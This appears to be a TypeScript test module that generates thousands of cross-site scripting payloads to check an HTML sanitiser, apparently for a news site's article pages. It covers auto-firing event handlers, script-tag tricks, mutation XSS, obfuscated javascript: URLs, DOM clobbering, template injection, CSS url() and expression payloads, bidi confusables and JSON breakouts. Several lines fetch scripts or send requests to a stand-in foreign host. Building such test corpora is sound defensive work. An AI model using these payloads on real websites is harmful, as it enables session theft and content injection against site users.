/**
 * Generates hostile strings from the published families of cross-site scripting: each family is a small grammar, so that
 * its variants multiply. A payload that runs increments `canaried` in its world or requests a host that no test serves.
 */
import { foreignHost, run } from './canary.ts';
import { moreFamilies } from './families.ts';
import { published } from './published.ts';

const fetchIt = `fetch('https://${foreignHost}/f')`;

/** Event handlers that fire without a user, on elements that load, fail, start or toggle. */
const firing: readonly [string, string][] = [
  ['img src=x', 'onerror'], ['img src=/image/1_605.jpg', 'onload'], ['svg', 'onload'], ['body', 'onload'], ['body', 'onpageshow'], ['video src=x', 'onerror'],
  ['video><source src=x', 'onerror'], ['audio src=x', 'onerror'], ['input autofocus', 'onfocus'], ['select autofocus', 'onfocus'], ['textarea autofocus', 'onfocus'],
  ['details open', 'ontoggle'], ['iframe src=about:blank', 'onload'], ['object data=x', 'onerror'], ['embed src=x', 'onerror'], ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'], ['marquee', 'onstart'], ['svg><animate attributeName=x dur=1s', 'onbegin'], ['svg><set attributeName=x', 'onbegin'], ['p style="animation:x 1s"', 'onanimationstart'],
  ['div contenteditable autofocus tabindex=0', 'onfocusin'], ['a id=x tabindex=1 href=#x', 'onfocus'], ['math href=x', 'onclick'], ['frameset', 'onload'], ['x tabindex=1', 'onfocus'],
];
const quoting = [(code: string) => code, (code: string) => `"${code}"`, (code: string) => `'${code}'`, (code: string) => code.replace(/[=(]/g, (sign) => `&#${sign.charCodeAt(0)};`)];

function handlers(): string[] {
  return firing.flatMap(([tag, event]) => quoting.flatMap((quote) => [
    `<${tag} ${event}=${quote(run.replaceAll(' ', ''))}>`,
    `"><${tag.toUpperCase()}/${event.toUpperCase()}=${quote(run)}>`,
    `<${tag}\n${event}\t=\n${quote(run)} x`,
  ]));
}

/** Every event with a handler attribute, on elements that occur in articles. */
const events = 'abort afterprint animationend auxclick beforecopy beforeinput beforematch beforetoggle beforeunload blur cancel canplay change click close contextlost contextmenu copy cuechange cut dblclick drag dragend dragenter drop durationchange emptied ended error formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup languagechange loadeddata loadedmetadata loadend loadstart message mousedown mouseenter mousemove mouseout mouseover mouseup mousewheel offline online pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter pointermove pointerover pointerrawupdate pointerup popstate progress ratechange reset resize scroll scrollend search securitypolicyviolation seeked seeking select selectionchange selectstart slotchange stalled storage submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting webkitanimationstart wheel'.split(' ');
const listeners = events.flatMap((event) => ['p', 'a href=/en/x/a-1', 'img src=x', 'td', 'blockquote'].map((tag) => `<${tag} on${event}=${run}>`));

const scripts = [
  `<script>${run}</script>`, `<SCRIPT SRC=https://${foreignHost}/s.js></SCRIPT>`, `<script\n>${run}</script\n>`, `<scr<script>ipt>${run}</scr</script>ipt>`,
  `</title><script>${run}</script>`, `--><script>${run}</script>`, `]]><script>${run}</script>`, `<svg><script>${run}</script></svg>`,
  `<svg><script href=data:text/javascript,${run} /></svg>`, `<math><mtext><script>${run}</script></mtext></math>`, `<noscript><p title="</noscript><script>${run}</script>">`,
  `<template><script>${run}</script></template>`, `<script type=module>${run}</script>`, `<script type="text/template">{{${run}}}</script>`, `<xmp><script>${run}</script></xmp>`,
  `<iframe srcdoc="<script>parent.canaried=1</script>"></iframe>`, `<object data="data:text/html,<script>${run}</script>"></object>`, `<embed src="javascript:${run}">`,
  `<base href=https://${foreignHost}/>`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`, `<link rel=prefetch href=https://${foreignHost}/p>`, `<link rel=import href=data:text/html,x>`,
  `<form action=javascript:${run}><button>x`, `<button formaction=javascript:${run}>x`, `<isindex action=javascript:${run}>`, `<a ping=https://${foreignHost}/ping href=/>x</a>`,
];

/** Markup that changes its meaning when it is serialised and parsed again (mutation XSS). */
function mutations(): string[] {
  const shells = ['noscript', 'style', 'textarea', 'title', 'xmp', 'noembed', 'noframes', 'iframe', 'template', 'plaintext', 'select', 'option', 'table', 'caption', 'desc', 'foreignObject', 'annotation-xml', 'mglyph', 'mtext', 'mi'];
  return shells.flatMap((shell) => [
    `<${shell}><img title="</${shell}><img src=x onerror=${run}>"></${shell}>`,
    `<svg></p><${shell}><a id="</${shell}><img src=x onerror=${run}>">`,
    `<math><mtext><table><mglyph><${shell}><!--</${shell}><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
    `<${shell}><!--</${shell}><img src=x onerror=${run}>-->`,
    `<form><math><mtext></form><form><mglyph><${shell}></math><img src onerror=${run}>`,
  ]);
}

const schemes = ['javascript:', 'vbscript:', 'data:text/html,', 'data:text/html;base64,', 'data:image/svg+xml,', 'livescript:', 'view-source:javascript:', 'feed:javascript:', 'jar:javascript:', 'blob:', 'filesystem:', 'file:///', 'about:', 'ms-its:', 'mhtml:', 'x-javascript:'];
const disguises: readonly ((scheme: string) => string)[] = [
  (scheme) => scheme, (scheme) => scheme.toUpperCase(), (scheme) => ` ${scheme}`, (scheme) => `\u0001${scheme}`, (scheme) => `\t\n${scheme}`, (scheme) => scheme.replace('s', 's\t'),
  (scheme) => scheme.replace('a', 'a\n'), (scheme) => scheme.replace('r', 'r\r\n'), (scheme) => scheme.replace(':', '\t:'), (scheme) => scheme.replace('a', '&#97;'), (scheme) => scheme.replace('a', '&#x61'),
  (scheme) => scheme.replace(':', '&colon;'), (scheme) => scheme.replace('s', '&Tab;s'), (scheme) => `\u00a0${scheme}`, (scheme) => `\u200b${scheme}`, (scheme) => scheme.replace('a', '\u0430'),
  (scheme) => scheme.replace('s', '\u017f'), (scheme) => scheme.replace(':', '\uff1a'), (scheme) => `${scheme}//%0a`, (scheme) => `\u2028${scheme}`, (scheme) => scheme.replace('a', '%61'), (scheme) => `//${scheme}`,
];

function disguisedUrls(): string[] {
  return schemes.flatMap((scheme) => disguises.map((disguise) => `${disguise(scheme)}${scheme.includes('html') ? `<script>${run}</script>` : run}`));
}

const clobbered = ['body', 'head', 'documentElement', 'createElement', 'querySelector', 'querySelectorAll', 'children', 'attributes', 'textContent', 'parentNode', 'firstChild', 'nodeName', 'tagName', 'cloneNode', 'append', 'remove', 'location', 'navigation', 'getAttribute', 'constructor', '__proto__', 'implementation', 'childNodes', 'length', 'item', 'closest'];
const clobbering = clobbered.flatMap((name) => [`<form id=${name}><input name=${name}></form>`, `<img name=${name} src=/image/2_605.jpg>`, `<a id=${name}></a><a id=${name} name=x href=cid:x></a>`, `<object name=${name}></object>`, `<form name=querySelectorAll><input name=${name}>`]);

const templates = ['{{', '${', '<%=', '#{', '[[', '{%', '*{', '@('].flatMap((open) => ['constructor.constructor', 'alert', 'globalThis.eval', 'self["canaried"]=1'].map((name) => `${open}${name}('${run}')()}}`));
const styles = [`background:url(javascript:${run})`, `background:url(https://${foreignHost}/b)`, `@import "https://${foreignHost}/i.css";`, `width:expression(${run})`, `-moz-binding:url(https://${foreignHost}/x.xml#x)`, `behavior:url(x.htc)`, `*{background:url(https://${foreignHost}/all)}`, `position:fixed;inset:0;z-index:2147483647`, `content:url(https://${foreignHost}/c)`, `list-style:url(https://${foreignHost}/l)`, `cursor:url(https://${foreignHost}/u),auto`, `mask:url(https://${foreignHost}/m)`]
  .flatMap((style) => ['p', 'span', 'a href=/', 'li', 'td'].flatMap((tag) => [`<${tag} style="${style}">`, `<style>${tag.split(' ')[0]}{${style}}</style>`]));
const confusions = ['\u202e', '\u202d', '\u2066', '\u2067', '\u2068', '\u200f', '\u061c', '\ufeff', '\u0000', '\u0008', '\ud800', '\udfff'].flatMap((sign) => [`${sign}dw.com`, `https://${sign}moc.wd//:sptth`, `<a href="https://\u0501w.com/">${sign}www.dw.com</a>`, `<bdo dir=rtl>${sign}</bdo>`]);
const jsonBreaks = [`</script><script>${run}</script>`, `"}</script><img src=x onerror=${run}>`, `\\u003cscript\\u003e${run}`, `","__proto__":{"polluted":1},"x":"`, `<!--<script>`, `\\"+${run}+\\"`, `constructor`, `\u2028${run}\u2029`, fetchIt, `\`\${${run}}\``];

const foreignPictures = ['https://', '//', 'https:\\\\', 'https://static.dw.com@', 'https://static.dw.com.', 'https://static.dw.com%2f@', 'https://dw.com#@']
  .flatMap((start) => ['/image/12345678_605.jpg', '/i.png', '/image/12345678_${formatId}.jpg'].map((path) => `${start}${foreignHost}${path}`));

/** Every payload once. */
export const payloads: readonly string[] = [...new Set([
  ...listeners, ...handlers(), ...scripts, ...mutations(), ...disguisedUrls(), ...clobbering, ...templates, ...styles, ...confusions, ...jsonBreaks, ...foreignPictures, ...moreFamilies, ...published,
])];
